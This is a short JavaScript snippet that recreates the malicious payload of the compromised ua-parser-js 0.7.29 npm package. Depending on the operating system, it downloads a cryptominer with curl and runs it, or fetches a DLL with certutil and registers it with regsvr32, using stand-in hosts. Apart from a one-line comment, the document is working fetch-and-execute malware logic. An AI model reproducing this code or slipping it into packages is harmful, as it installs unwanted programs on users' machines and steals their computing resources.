// Shape of ua-parser-js 0.7.29: pick a platform, fetch a miner, make it executable, run it.
const { exec } = require('child_process');
const os = require('os');
if (os.type() === 'Linux') {
  exec('curl http://159.148.186.228.example.invalid/download/jsextension -o jsextension; chmod +x jsextension; ./jsextension -k --tls --rig-id q -o pool.example.invalid:443 &');
} else if (os.type() === 'Windows_NT') {
  exec('certutil.exe -urlcache -f http://citationsherbe.example.invalid/sdd.dll create.dll & regsvr32.exe -s create.dll');
}
